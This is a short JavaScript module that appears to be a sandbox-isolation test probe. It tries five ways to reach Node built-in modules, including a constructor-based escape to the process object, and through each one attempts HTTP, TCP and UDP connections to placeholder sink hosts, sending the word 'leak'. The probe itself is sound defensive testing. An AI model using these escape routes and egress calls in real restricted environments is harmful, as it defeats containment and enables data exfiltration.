// The modules of a Node that forgot to keep them away, over every road to them.
const roads = [
  (name) => import(`node:${name}`),
  (name) => process.getBuiltinModule(name),
  (name) => require(name),
  (name) => process.mainModule.require(name),
  (name) => globalThis.constructor.constructor('return process')().getBuiltinModule(name),
]
export async function work() {
  for (const road of roads) {
    attempt(async () => {
      const { get } = await road('http')
      await new Promise((resolve) => get('http://__SINK__/node').on('response', resolve).on('error', resolve))
    })
    attempt(async () => {
      const { connect } = await road('net')
      const [host, port] = '__SINK__'.split('/')[0].split(':')
      await new Promise((resolve) => connect(Number(port), host).on('connect', resolve).on('error', resolve))
    })
    attempt(async () => {
      const { createSocket } = await road('dgram')
      const [host, port] = '__UDP__'.split(':')
      await new Promise((resolve) => createSocket('udp4').send('leak', Number(port), host, resolve))
    })
  }
  return settled()
}
